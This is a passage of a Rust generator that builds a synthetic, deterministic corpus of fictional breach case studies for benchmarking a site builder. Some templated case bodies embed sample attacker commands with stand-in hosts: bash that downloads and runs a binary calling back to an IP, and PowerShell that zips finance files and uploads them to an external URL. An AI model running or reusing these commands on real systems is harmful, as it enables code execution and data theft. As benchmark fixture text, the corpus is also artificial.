//! Synthetic corpus for the benchmark (`bench/run.sh`).
//!
//! ```text
//! cargo run --release --example gen_cases -- N DIR [--hugo HUGODIR]
//! ```
//!
//! Writes N breach case studies into `DIR` (`site.toml`, `content/cases/case-NNNNN.md`,
//! a few `content/organizations/*.md`), valid per FORMAT.md: `casebook check --root DIR`
//! reports no errors. The corpus is deterministic (a seeded xorshift, no clock, no
//! environment): the same N gives the same bytes, so timings are comparable run to run.
//!
//! Shape, per case: 1-2 organizations from a Zipf-skewed pool of about N/5 names (some of
//! them CJK), one sector (of 20), one country (of 30), two tags (of 40), one actor, four
//! data types (of 30), five techniques (of 80 valid, non-revoked, non-deprecated ids, the
//! tactic when given taken from the catalog), three timeline entries, two references,
//! partial dates, about 1% TLP amber (left out of the build), and a body of 400-800
//! words with headings, paragraphs, a bullet list, a table, a fenced code block and,
//! sometimes, internal links (`attack:`, `org:`, `@/cases/...`).
//!
//! With `--hugo HUGODIR` it also writes the same cases as Hugo content
//! (`HUGODIR/content/cases/*.md`, TOML front matter with the taxonomies organizations,
//! techniques, sectors, countries, tags and years at top level, the other fields as custom
//! keys; internal links turned into plain URLs), to build with the skeleton in `bench/hugo/`.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

use casebook::slug::slugify;

/// Bump when the output changes: `bench/run.sh` caches corpora by N and this version.
const GENERATOR_VERSION: u32 = 2;

// ---------------------------------------------------------------------------------------
// Randomness: xorshift64*, and Zipf-like weighted choice.

struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        // splitmix64 of the seed, so nearby seeds give unrelated streams.
        let mut z = seed.wrapping_add(0x9E37_79B9_7F4A_7C15);
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        Rng((z ^ (z >> 31)) | 1)
    }
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// Uniform in 0..n.
    fn below(&mut self, n: usize) -> usize {
        ((self.next() >> 11) % n as u64) as usize
    }
    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + (self.next() >> 11) as i64 % (hi - lo + 1)
    }
    fn chance(&mut self, percent: u64) -> bool {
        (self.next() >> 11) % 100 < percent
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Weights 1/(k+1)^s over n items: a few items take most of the uses, like real data.
struct Zipf {
    cumulative: Vec<f64>,
}

impl Zipf {
    fn new(n: usize, s: f64) -> Zipf {
        let mut total = 0.0;
        let cumulative = (0..n)
            .map(|k| {
                total += 1.0 / ((k + 1) as f64).powf(s);
                total
            })
            .collect();
        Zipf { cumulative }
    }
    fn sample(&self, rng: &mut Rng) -> usize {
        let total = *self.cumulative.last().unwrap();
        let u = (rng.next() >> 11) as f64 / (1u64 << 53) as f64 * total;
        self.cumulative.partition_point(|&c| c <= u).min(self.cumulative.len() - 1)
    }
    /// `count` distinct indices.
    fn distinct(&self, rng: &mut Rng, count: usize) -> Vec<usize> {
        let mut out: Vec<usize> = Vec::with_capacity(count);
        let mut tries = 0;
        while out.len() < count.min(self.cumulative.len()) {
            let k = if tries < 64 { self.sample(rng) } else { rng.below(self.cumulative.len()) };
            tries += 1;
            if !out.contains(&k) {
                out.push(k);
            }
        }
        out
    }
}

// ---------------------------------------------------------------------------------------
// Vocabularies.

/// (id, catalog name, tactics): taken from ATT&CK Enterprise 18.1, none revoked or
/// deprecated. Ordered roughly by how often breach write-ups cite them (Zipf rank).
const TECHNIQUES: &[(&str, &str, &[&str])] = &[
    ("T1078", "Valid Accounts", &["defense-evasion", "persistence", "privilege-escalation", "initial-access"]),
    ("T1190", "Exploit Public-Facing Application", &["initial-access"]),
    ("T1566", "Phishing", &["initial-access"]),
    ("T1486", "Data Encrypted for Impact", &["impact"]),
    ("T1567.002", "Exfiltration to Cloud Storage", &["exfiltration"]),
    ("T1133", "External Remote Services", &["persistence", "initial-access"]),
    ("T1566.001", "Spearphishing Attachment", &["initial-access"]),
    ("T1041", "Exfiltration Over C2 Channel", &["exfiltration"]),
    ("T1078.004", "Cloud Accounts", &["defense-evasion", "persistence", "privilege-escalation", "initial-access"]),
    ("T1110.004", "Credential Stuffing", &["credential-access"]),
    ("T1530", "Data from Cloud Storage", &["collection"]),
    ("T1213", "Data from Information Repositories", &["collection"]),
    ("T1005", "Data from Local System", &["collection"]),
    ("T1059.001", "PowerShell", &["execution"]),
    ("T1021.001", "Remote Desktop Protocol", &["lateral-movement"]),
    ("T1003.001", "LSASS Memory", &["credential-access"]),
    ("T1199", "Trusted Relationship", &["initial-access"]),
    ("T1195.002", "Compromise Software Supply Chain", &["initial-access"]),
    ("T1566.002", "Spearphishing Link", &["initial-access"]),
    ("T1567", "Exfiltration Over Web Service", &["exfiltration"]),
    ("T1110", "Brute Force", &["credential-access"]),
    ("T1110.003", "Password Spraying", &["credential-access"]),
    ("T1059", "Command and Scripting Interpreter", &["execution"]),
    ("T1059.003", "Windows Command Shell", &["execution"]),
    ("T1059.004", "Unix Shell", &["execution"]),
    ("T1021.002", "SMB/Windows Admin Shares", &["lateral-movement"]),
    ("T1003", "OS Credential Dumping", &["credential-access"]),
    ("T1555", "Credentials from Password Stores", &["credential-access"]),
    ("T1552", "Unsecured Credentials", &["credential-access"]),
    ("T1552.001", "Credentials In Files", &["credential-access"]),
    ("T1195", "Supply Chain Compromise", &["initial-access"]),
    ("T1071", "Application Layer Protocol", &["command-and-control"]),
    ("T1071.001", "Web Protocols", &["command-and-control"]),
    ("T1105", "Ingress Tool Transfer", &["command-and-control"]),
    ("T1048", "Exfiltration Over Alternative Protocol", &["exfiltration"]),
    ("T1560", "Archive Collected Data", &["collection"]),
    ("T1560.001", "Archive via Utility", &["collection"]),
    ("T1082", "System Information Discovery", &["discovery"]),
    ("T1083", "File and Directory Discovery", &["discovery"]),
    ("T1087", "Account Discovery", &["discovery"]),
    ("T1087.002", "Domain Account", &["discovery"]),
    ("T1046", "Network Service Discovery", &["discovery"]),
    ("T1098", "Account Manipulation", &["persistence", "privilege-escalation"]),
    ("T1136", "Create Account", &["persistence"]),
    ("T1053", "Scheduled Task/Job", &["execution", "persistence", "privilege-escalation"]),
    ("T1053.005", "Scheduled Task", &["execution", "persistence", "privilege-escalation"]),
    ("T1543.003", "Windows Service", &["persistence", "privilege-escalation"]),
    ("T1547.001", "Registry Run Keys / Startup Folder", &["persistence", "privilege-escalation"]),
    ("T1505.003", "Web Shell", &["persistence"]),
    ("T1562.001", "Disable or Modify Tools", &["defense-evasion"]),
    ("T1070.004", "File Deletion", &["defense-evasion"]),
    ("T1027", "Obfuscated Files or Information", &["defense-evasion"]),
    ("T1068", "Exploitation for Privilege Escalation", &["privilege-escalation"]),
    ("T1490", "Inhibit System Recovery", &["impact"]),
    ("T1489", "Service Stop", &["impact"]),
    ("T1485", "Data Destruction", &["impact"]),
    ("T1657", "Financial Theft", &["impact"]),
    ("T1114", "Email Collection", &["collection"]),
    ("T1114.002", "Remote Email Collection", &["collection"]),
    ("T1539", "Steal Web Session Cookie", &["credential-access"]),
    ("T1550", "Use Alternate Authentication Material", &["defense-evasion", "lateral-movement"]),
    ("T1550.002", "Pass the Hash", &["defense-evasion", "lateral-movement"]),
    ("T1557", "Adversary-in-the-Middle", &["credential-access", "collection"]),
    ("T1526", "Cloud Service Discovery", &["discovery"]),
    ("T1040", "Network Sniffing", &["credential-access", "discovery"]),
    ("T1119", "Automated Collection", &["collection"]),
    ("T1074", "Data Staged", &["collection"]),
    ("T1090", "Proxy", &["command-and-control"]),
    ("T1572", "Protocol Tunneling", &["command-and-control"]),
    ("T1219", "Remote Access Tools", &["command-and-control"]),
    ("T1204", "User Execution", &["execution"]),
    ("T1204.002", "Malicious File", &["execution"]),
    ("T1598", "Phishing for Information", &["reconnaissance"]),
    ("T1589", "Gather Victim Identity Information", &["reconnaissance"]),
    ("T1595", "Active Scanning", &["reconnaissance"]),
    ("T1588", "Obtain Capabilities", &["resource-development"]),
    ("T1586", "Compromise Accounts", &["resource-development"]),
    ("T1621", "Multi-Factor Authentication Request Generation", &["credential-access"]),
    ("T1556", "Modify Authentication Process", &["credential-access", "defense-evasion", "persistence"]),
    ("T1528", "Steal Application Access Token", &["credential-access"]),
];

const SECTORS: &[&str] = &[
    "Healthcare",
    "Finance",
    "Retail",
    "Government",
    "Education",
    "Telecommunications",
    "Technology",
    "Manufacturing",
    "Hospitality",
    "Insurance",
    "Energy",
    "Transportation",
    "Media",
    "Legal",
    "Pharmaceuticals",
    "Non-profit",
    "Gaming",
    "Real estate",
    "Logistics",
    "Aerospace",
];

const COUNTRIES: &[&str] = &[
    "US", "GB", "JP", "DE", "AU", "FR", "CA", "IN", "KR", "TW", "BR", "NL", "SG", "IT", "ES", "CN", "HK", "SE", "CH",
    "IL", "ZA", "MX", "NZ", "IE", "PL", "BE", "AT", "DK", "NO", "FI",
];

const TAGS: &[&str] = &[
    "ransomware",
    "phishing",
    "cloud",
    "misconfiguration",
    "supply-chain",
    "third-party",
    "credential-stuffing",
    "insider",
    "extortion",
    "web-application",
    "vpn",
    "zero-day",
    "data-leak",
    "mfa-bypass",
    "social-engineering",
    "api",
    "s3-bucket",
    "payment-cards",
    "health-records",
    "source-code",
    "email",
    "backup",
    "sim-swap",
    "dark-web",
    "regulator",
    "class-action",
    "student-data",
    "voter-data",
    "loyalty-program",
    "mobile-app",
    "open-database",
    "elasticsearch",
    "mongodb",
    "wordpress",
    "moveit",
    "citrix",
    "exchange",
    "log4j",
    "okta",
    "snowflake",
];

const DATA_TYPES: &[&str] = &[
    "Email addresses",
    "Names",
    "Phone numbers",
    "Physical addresses",
    "Dates of birth",
    "Passwords",
    "Password hashes",
    "Government IDs",
    "Social security numbers",
    "Payment card numbers",
    "Bank account numbers",
    "Medical records",
    "Health insurance data",
    "IP addresses",
    "Usernames",
    "Genders",
    "Employment data",
    "Salary data",
    "Tax records",
    "Passport numbers",
    "Driver's licence numbers",
    "Purchase history",
    "Device identifiers",
    "Geolocation data",
    "Biometric data",
    "Student records",
    "Contract numbers",
    "Company names",
    "Service usage",
    "Security questions and answers",
];

const ACTORS: &[&str] = &[
    "unknown",
    "G1015",
    "ShinyHunters",
    "G1004",
    "LockBit affiliate",
    "G0032",
    "an insider",
    "G0096",
    "Cl0p",
    "BlackCat affiliate",
    "G0016",
    "G0007",
    "a former employee",
    "G0046",
    "Medusa",
    "G0034",
    "G0119",
    "Rhysida",
    "G0010",
    "a security researcher",
];

const CONFIDENCE: &[&str] = &["confirmed", "confirmed", "likely", "likely", "possible", "unconfirmed"];

const LATIN_A: &[&str] = &[
    "Nor", "Ala", "Vel", "Kin", "Ter", "Sol", "Mar", "Quin", "Bri", "Cor", "Dal", "Eri", "Fen", "Gal", "Hal", "Ivo",
    "Jor", "Kel", "Lum", "Mer", "Nov", "Orb", "Pax", "Rho", "Sen", "Tal", "Ul", "Ven", "Wes", "Xan", "Yor", "Zen",
    "Arc", "Bel", "Cal", "Den",
];
const LATIN_B: &[&str] = &[
    "den", "tra", "vex", "lia", "mont", "ford", "ton", "ica", "ora", "well", "stone", "gate", "field", "bury", "wick",
    "dale", "ridge", "port", "vale", "more", "ix", "on", "us", "ia",
];
const LATIN_C: &[&str] = &[
    "Holdings",
    "Bank",
    "Health",
    "Logistics",
    "Telecom",
    "Insurance",
    "Group",
    "Systems",
    "University",
    "Retail",
    "Energy",
    "Airlines",
    "Hotels",
    "Pharma",
    "Motors",
    "Credit Union",
    "Hospital",
    "Games",
    "Media",
    "Foods",
    "Software",
    "Capital",
    "Clinic",
    "College",
    "Labs",
    "& Partners",
    "Water",
    "Council",
    "Networks",
    "Cloud",
];
const CJK_A: &[&str] = &[
    "東京",
    "大阪",
    "名古屋",
    "北海",
    "九州",
    "横浜",
    "京都",
    "神戸",
    "上海",
    "北京",
    "深圳",
    "台北",
    "高雄",
    "首爾",
    "釜山",
    "広島",
    "仙台",
    "杭州",
    "成都",
    "香港",
];
const CJK_B: &[&str] = &[
    "電機",
    "銀行",
    "製薬",
    "通信",
    "保険",
    "物流",
    "電力",
    "病院",
    "大学",
    "商事",
    "証券",
    "科技",
    "集团",
    "百貨店",
    "航空",
    "信用金庫",
    "放送",
    "建設",
    "食品",
    "化学",
];

const ADJ: &[&str] = &[
    "unauthorized",
    "unusual",
    "suspicious",
    "external",
    "internal",
    "privileged",
    "legacy",
    "misconfigured",
    "unpatched",
    "third-party",
    "cloud-hosted",
    "on-premises",
];
const SYSTEMS: &[&str] = &[
    "customer portal",
    "VPN gateway",
    "file transfer server",
    "cloud storage bucket",
    "email tenant",
    "HR system",
    "billing database",
    "backup server",
    "ticketing system",
    "developer repository",
    "CRM instance",
    "loyalty platform",
    "patient records system",
    "payment page",
    "remote desktop host",
    "data warehouse",
];
const VERBS: &[&str] = &[
    "accessed",
    "copied",
    "encrypted",
    "exfiltrated",
    "enumerated",
    "modified",
    "exposed",
    "downloaded",
    "staged",
    "deleted",
];

// ---------------------------------------------------------------------------------------
// Dates: days since 1970-01-01 <-> civil (Howard Hinnant's algorithms).

fn civil(days: i64) -> (i64, u32, u32) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}

fn days_from(y: i64, m: u32, d: u32) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = if m > 2 { m - 3 } else { m + 9 } as i64;
    let doy = (153 * mp + 2) / 5 + d as i64 - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

fn ymd(days: i64) -> String {
    let (y, m, d) = civil(days);
    format!("{y:04}-{m:02}-{d:02}")
}

const MONTHS: &[&str] = &[
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
];

fn prose_date(days: i64) -> String {
    let (y, m, d) = civil(days);
    format!("{} {d}, {y}", MONTHS[m as usize - 1])
}

// ---------------------------------------------------------------------------------------
// The corpus.

struct Org {
    name: String,
    slug: String,
}

/// About n/5 organization names with distinct slugs; every 8th or so is CJK.
fn org_pool(n: usize) -> Vec<Org> {
    let want = (n / 5).max(12);
    let mut rng = Rng::new(0x0516_0A11);
    let mut seen = std::collections::HashSet::new();
    let mut out = Vec::with_capacity(want);
    while out.len() < want {
        let name = if rng.chance(12) {
            let mut s = format!("{}{}", rng.pick(CJK_A), rng.pick(CJK_B));
            if rng.chance(30) {
                s.push_str("株式会社");
            }
            s
        } else {
            let mut s = format!("{}{}", rng.pick(LATIN_A), rng.pick(LATIN_B));
            if rng.chance(40) {
                s.push(' ');
                s.push_str(rng.pick::<&str>(LATIN_A));
                s.push_str(rng.pick::<&str>(LATIN_B));
            }
            s.push(' ');
            s.push_str(rng.pick::<&str>(LATIN_C));
            s
        };
        let slug = slugify(&name);
        if !slug.is_empty() && seen.insert(slug.clone()) {
            out.push(Org { name, slug });
        }
    }
    out
}

struct Vocab {
    orgs: Vec<Org>,
    org_z: Zipf,
    tech_z: Zipf,
    sector_z: Zipf,
    country_z: Zipf,
    tag_z: Zipf,
    dtype_z: Zipf,
    actor_z: Zipf,
}

/// One case, as the generator decided it; written twice (Casebook and Hugo).
struct CaseData {
    slug: String,
    title: String,
    date: i64,
    orgs: Vec<usize>,
    summary: String,
    tlp: &'static str,
    tags: Vec<&'static str>,
    status: &'static str,
    sector: &'static str,
    country: &'static str,
    actor: &'static str,
    ransomware: bool,
    started: String,
    detected: i64,
    disclosed: i64,
    people: Option<u64>,
    records: Option<u64>,
    data_types: Vec<&'static str>,
    techniques: Vec<(usize, Option<&'static str>, &'static str, bool, String)>,
    timeline: Vec<(String, String)>,
    references: Vec<(String, String, String, i64)>,
    body: String,
    happened_year: i64,
}

/// Amber cases are decided from the index alone, so later cases can avoid linking to them.
fn is_amber(i: usize) -> bool {
    Rng::new(i as u64 ^ 0xA4BE_0000).chance(1)
}

fn case(i: usize, v: &Vocab) -> CaseData {
    let mut r = Rng::new(i as u64);
    let slug = format!("case-{i:05}");
    let norgs = if r.chance(25) { 2 } else { 1 };
    let orgs = v.org_z.distinct(&mut r, norgs);
    let lead = &v.orgs[orgs[0]].name;

    // Dates: published 2015-2025; detected before it, started before that, disclosed between.
    let date = days_from(2015, 1, 1) + r.range(0, 3_800);
    let detected = date - r.range(10, 200);
    let disclosed = detected + r.range(1, date - detected);
    let start = detected - r.range(0, 400);
    let (sy, sm, _) = civil(start);
    let started = match r.below(5) {
        0 => format!(">{sy:04}-{sm:02}"),
        1 => format!("~{sy:04}"),
        2 => format!("{sy:04}-{sm:02}"),
        _ => ymd(start),
    };
    let happened_year = civil(detected).0;

    let sector = SECTORS[v.sector_z.sample(&mut r)];
    let country = COUNTRIES[v.country_z.sample(&mut r)];
    let tags: Vec<&str> = v.tag_z.distinct(&mut r, 2).into_iter().map(|k| TAGS[k]).collect();
    let data_types: Vec<&str> = v.dtype_z.distinct(&mut r, 4).into_iter().map(|k| DATA_TYPES[k]).collect();
    let actor = ACTORS[v.actor_z.sample(&mut r)];
    let tech_idx = v.tech_z.distinct(&mut r, 5);
    let ransomware = tech_idx.iter().any(|&k| TECHNIQUES[k].0 == "T1486");
    let people = if r.chance(70) { Some(r.range(100, 5_000_000) as u64) } else { None };
    let records = if people.is_none() || r.chance(30) { Some(r.range(1_000, 90_000_000) as u64) } else { None };
    let count = people.or(records).unwrap_or(0);
    let system = *r.pick(SYSTEMS);

    let techniques = tech_idx
        .iter()
        .map(|&k| {
            let (_, name, tactics) = TECHNIQUES[k];
            let tactic = if r.chance(60) { Some(*r.pick(tactics)) } else { None };
            let conf = *r.pick(CONFIDENCE);
            let with_name = r.chance(20);
            let evidence = format!(
                "The {} notice says the attackers {} the {}; {} is the closest match in ATT&CK.",
                r.pick(&["company's", "regulator's", "incident response firm's", "court filing's"]),
                r.pick(VERBS),
                system,
                name
            );
            (k, tactic, conf, with_name, evidence)
        })
        .collect::<Vec<_>>();

    let timeline = vec![
        (started.clone(), format!("Earliest {} activity on the {}.", r.pick(ADJ), system)),
        (ymd(detected), format!("{lead} detects {} activity and engages an incident response firm.", r.pick(ADJ))),
        (ymd(disclosed), format!("{lead} discloses the incident and begins notifying {count} affected people.")),
    ];
    let domain = format!("{}.example", v.orgs[orgs[0]].slug);
    let references = vec![
        (
            format!("https://www.{domain}/news/{}/notice-{i}.html", civil(disclosed).0),
            format!("Notice of a data security incident at {lead}"),
            lead.clone(),
            disclosed,
        ),
        (
            format!("https://news.example.com/{}/{}/{slug}", civil(date).0, r.pick(TAGS)),
            format!("{lead} confirms breach affecting {count} {}", if people.is_some() { "people" } else { "records" }),
            "Example News".to_string(),
            date,
        ),
    ];
    let title = format!("{lead}: {} via {} {}", data_types[0].to_lowercase(), r.pick(ADJ), system);
    let summary = format!(
        "Attackers {} the {} of {lead} and {} data of about {count} {}.",
        r.pick(VERBS),
        system,
        r.pick(VERBS),
        if people.is_some() { "people" } else { "records" }
    );

    let mut c = CaseData {
        slug,
        title,
        date,
        orgs,
        summary,
        tlp: if is_amber(i) {
            "amber"
        } else if r.chance(5) {
            "green"
        } else {
            "clear"
        },
        tags,
        status: if r.chance(85) { "confirmed" } else { "suspected" },
        sector,
        country,
        actor,
        ransomware,
        started,
        detected,
        disclosed,
        people,
        records,
        data_types,
        techniques,
        timeline,
        references,
        body: String::new(),
        happened_year,
    };
    c.body = body(i, &c, v, &mut r, system);
    c
}

fn sentence(r: &mut Rng, c: &CaseData, v: &Vocab, system: &str) -> String {
    let lead = &v.orgs[c.orgs[0]].name;
    let t = TECHNIQUES[c.techniques[r.below(c.techniques.len())].0].1;
    match r.below(12) {
        0 => format!(
            "The attackers {} the {system} using {}, according to the {} statement.",
            r.pick(VERBS),
            t.to_lowercase(),
            r.pick(&["first", "second", "final"])
        ),
        1 => format!(
            "{lead} said it found no evidence that the {} {} had been {}.",
            r.pick(ADJ),
            r.pick(SYSTEMS),
            r.pick(VERBS)
        ),
        2 => format!(
            "Investigators believe the intrusion began on the {} {} and spread to the {} over several weeks.",
            r.pick(ADJ),
            r.pick(SYSTEMS),
            r.pick(SYSTEMS)
        ),
        3 => format!(
            "The {} sector has seen {} similar incidents this year, most of them starting with {}.",
            c.sector.to_lowercase(),
            r.range(3, 90),
            t.to_lowercase()
        ),
        4 => format!(
            "Regulators in {} opened an inquiry after {} complaints from affected customers.",
            c.country,
            r.range(10, 4000)
        ),
        5 => format!(
            "A forensic review found that {} had been {} before the {} was taken offline.",
            r.pick(DATA_TYPES).to_lowercase(),
            r.pick(VERBS),
            system
        ),
        6 => format!(
            "The company reset credentials for {} accounts and enabled multi-factor authentication on the {}.",
            r.range(20, 90_000),
            r.pick(SYSTEMS)
        ),
        7 => format!(
            "Logs from the {} were kept for only {} days, which limits what can be said about the first weeks.",
            r.pick(SYSTEMS),
            r.range(7, 90)
        ),
        8 => format!(
            "{} later claimed the attack on a leak site and published samples of {}.",
            actor_prose(c.actor),
            r.pick(DATA_TYPES).to_lowercase()
        ),
        9 => format!(
            "Notification letters went out on {}, {} days after the incident was detected.",
            prose_date(c.disclosed),
            c.disclosed - c.detected
        ),
        10 => format!(
            "The {} vendor issued a patch, but the {} copy had not been updated for {} months.",
            r.pick(SYSTEMS),
            r.pick(ADJ),
            r.range(2, 30)
        ),
        _ => format!(
            "Security researchers noted that {} exposure of this kind is common among {} organizations.",
            r.pick(ADJ),
            c.sector.to_lowercase()
        ),
    }
}

fn actor_prose(actor: &str) -> String {
    match actor {
        "unknown" => "A ransomware group".to_string(),
        a if a.starts_with('G') && a[1..].bytes().all(|b| b.is_ascii_digit()) => {
            format!("The group ATT&CK tracks as {a}")
        }
        a if a.starts_with("a ") => format!("A{}", &a[1..]),
        a => a.to_string(),
    }
}

fn paragraph(r: &mut Rng, c: &CaseData, v: &Vocab, system: &str, n: usize) -> String {
    let mut p = String::new();
    for k in 0..n {
        if k > 0 {
            p.push(' ');
        }
        p.push_str(&sentence(r, c, v, system));
    }
    p
}

/// Markdown body: about 400-800 words.
fn body(i: usize, c: &CaseData, v: &Vocab, r: &mut Rng, system: &str) -> String {
    let mut b = String::with_capacity(6_000);
    let lead = &v.orgs[c.orgs[0]].name;
    let (tk, _, _, _, _) = c.techniques[0];
    let tid = TECHNIQUES[tk].0;
    let tname = TECHNIQUES[tk].1;

    b.push_str("## Summary\n\n");
    // Internal links, sometimes.
    let org_link = if r.chance(40) { format!("[{lead}](<org:{lead}>)") } else { lead.clone() };
    let tech_link = if r.chance(50) { format!("[{tname}](attack:{tid})") } else { tname.to_string() };
    let _ = writeln!(
        b,
        "{org_link} disclosed on {} that attackers had reached its {system}. The first step was most likely {tech_link}. {}\n",
        prose_date(c.disclosed),
        paragraph(r, c, v, system, 2)
    );
    if i > 1 && r.chance(30) {
        // An earlier case that is published (amber ones are left out of the build).
        let j = 1 + r.below(i - 1);
        if !is_amber(j) {
            let _ =
                writeln!(b, "The pattern resembles [an earlier case](@/cases/case-{j:05}.md) in the same sector.\n");
        }
    }

    b.push_str("## What happened\n\n");
    for _ in 0..r.range(2, 4) {
        let n = r.range(3, 5) as usize;
        let _ = writeln!(b, "{}\n", paragraph(r, c, v, system, n));
    }

    b.push_str("### Sequence of events\n\n");
    for (d, e) in &c.timeline {
        let _ = writeln!(b, "- **{d}**: {e}");
    }
    let _ = writeln!(b, "- {}", sentence(r, c, v, system));
    b.push('\n');

    b.push_str("## Data exposed\n\n");
    let _ = writeln!(b, "{}\n", paragraph(r, c, v, system, 2));
    b.push_str("| Data type | Records | Encrypted at rest |\n| --- | ---: | --- |\n");
    for dt in &c.data_types {
        let _ = writeln!(b, "| {dt} | {} | {} |", r.range(100, 9_000_000), r.pick(&["yes", "no", "partly", "unknown"]));
    }
    b.push('\n');

    b.push_str("## Technical details\n\n");
    let n = r.range(3, 5) as usize;
    let _ = writeln!(b, "{}\n", paragraph(r, c, v, system, n));
    match r.below(3) {
        0 => {
            let _ = writeln!(
                b,
                "```bash\n# Commands recovered from the shell history of the {system}\ncurl -s -o /tmp/.cache/u.tgz https://files.example.net/u{i}.tgz\ntar -xzf /tmp/.cache/u.tgz -C /tmp/.cache && chmod +x /tmp/.cache/u\nnohup /tmp/.cache/u --connect 203.0.113.{} --port {} >/dev/null 2>&1 &\nfind /srv/data -name '*.csv' -mtime -30 | xargs tar -czf /tmp/out.tgz\n```\n",
                r.range(1, 254),
                r.range(1024, 65535)
            );
        }
        1 => {
            let _ = writeln!(
                b,
                "```powershell\n# Recovered from a scheduled task on a file server\n$src = \"\\\\fs{}\\finance$\"\nGet-ChildItem -Path $src -Recurse -Include *.xlsx,*.pdf |\n  Where-Object {{ $_.LastWriteTime -gt (Get-Date).AddDays(-{}) }} |\n  Compress-Archive -DestinationPath C:\\Windows\\Temp\\upd.zip\nInvoke-WebRequest -Uri https://cdn.example.org/up -Method Post -InFile C:\\Windows\\Temp\\upd.zip\n```\n",
                r.range(1, 40),
                r.range(7, 120)
            );
        }
        _ => {
            let _ = writeln!(
                b,
                "```json\n{{\n  \"eventName\": \"GetObject\",\n  \"sourceIPAddress\": \"198.51.100.{}\",\n  \"userAgent\": \"aws-cli/2.{}.0\",\n  \"requestParameters\": {{ \"bucketName\": \"{}-exports\", \"key\": \"customers/{}.csv\" }},\n  \"errorCode\": null\n}}\n```\n",
                r.range(1, 254),
                r.range(0, 15),
                v.orgs[c.orgs[0]].slug,
                r.range(2015, 2025)
            );
        }
    }
    let _ = writeln!(b, "{}\n", paragraph(r, c, v, system, 3));

    b.push_str("## Response and lessons\n\n");
    let n = r.range(3, 5) as usize;
    let _ = writeln!(b, "{}\n", paragraph(r, c, v, system, n));
    let lessons = [
        "Require phishing-resistant multi-factor authentication on every remote entry point.",
        "Keep an inventory of internet-facing systems and patch them within days, not months.",
        "Log access to bulk data and alert on unusual volumes.",
        "Limit how long personal data is kept; data that is not stored cannot leak.",
        "Review what third parties can reach and for how long.",
        "Test restores from offline backups at least once a quarter.",
        "Rotate secrets found in code repositories and scan for new ones on every push.",
    ];
    for k in Zipf::new(lessons.len(), 0.5).distinct(r, 3) {
        let _ = writeln!(b, "- {}", lessons[k]);
    }
    b.push('\n');
    if c.orgs.len() > 1 {
        let other = &v.orgs[c.orgs[1]].name;
        let _ = writeln!(
            b,
            "[{other}](<org:{other}>), whose systems were connected to those of {lead}, published its own notice. {}\n",
            sentence(r, c, v, system)
        );
    }
    b
}

fn toml_str(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for ch in s.chars() {
        match ch {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn toml_list<S: AsRef<str>>(items: &[S]) -> String {
    let parts: Vec<String> = items.iter().map(|s| toml_str(s.as_ref())).collect();
    format!("[{}]", parts.join(", "))
}

fn casebook_file(c: &CaseData, v: &Vocab) -> String {
    let mut s = String::with_capacity(9_000);
    let orgs: Vec<&str> = c.orgs.iter().map(|&k| v.orgs[k].name.as_str()).collect();
    s.push_str("+++\n");
    let _ = writeln!(s, "title = {}", toml_str(&c.title));
    let _ = writeln!(s, "date = {}", ymd(c.date));
    let _ = writeln!(s, "organizations = {}", toml_list(&orgs));
    let _ = writeln!(s, "summary = {}", toml_str(&c.summary));
    let _ = writeln!(s, "tlp = {}", toml_str(c.tlp));
    let _ = writeln!(s, "tags = {}", toml_list(&c.tags));
    s.push_str("\n[incident]\n");
    let _ = writeln!(s, "status = {}", toml_str(c.status));
    let _ = writeln!(s, "sectors = {}", toml_list(&[c.sector]));
    let _ = writeln!(s, "countries = {}", toml_list(&[c.country]));
    let _ = writeln!(s, "actors = {}", toml_list(&[c.actor]));
    if c.ransomware {
        s.push_str("ransomware = true\n");
    }
    let _ = writeln!(s, "started = {}", toml_str(&c.started));
    let _ = writeln!(s, "detected = {}", ymd(c.detected));
    let _ = writeln!(s, "disclosed = {}", ymd(c.disclosed));
    s.push_str("\n[impact]\n");
    if let Some(p) = c.people {
        let _ = writeln!(s, "people = {p}");
    }
    if let Some(r) = c.records {
        let _ = writeln!(s, "records = {r}");
    }
    let _ = writeln!(s, "data_types = {}", toml_list(&c.data_types));
    for (k, tactic, conf, with_name, evidence) in &c.techniques {
        let (id, name, _) = TECHNIQUES[*k];
        let _ = writeln!(s, "\n[[techniques]]\nid = {}", toml_str(id));
        if let Some(t) = tactic {
            let _ = writeln!(s, "tactic = {}", toml_str(t));
        }
        let _ = writeln!(s, "confidence = {}", toml_str(conf));
        if *with_name {
            let _ = writeln!(s, "name = {}", toml_str(name));
        }
        let _ = writeln!(s, "evidence = {}", toml_str(evidence));
    }
    for (d, e) in &c.timeline {
        // Exact days as TOML dates, partial ones as strings.
        let date = if d.len() == 10 && !d.starts_with(['~', '>', '<']) { d.clone() } else { toml_str(d) };
        let _ = writeln!(s, "\n[[timeline]]\ndate = {date}\nevent = {}", toml_str(e));
    }
    for (url, title, publisher, date) in &c.references {
        let _ = writeln!(
            s,
            "\n[[references]]\nurl = {}\ntitle = {}\npublisher = {}\ndate = {}",
            toml_str(url),
            toml_str(title),
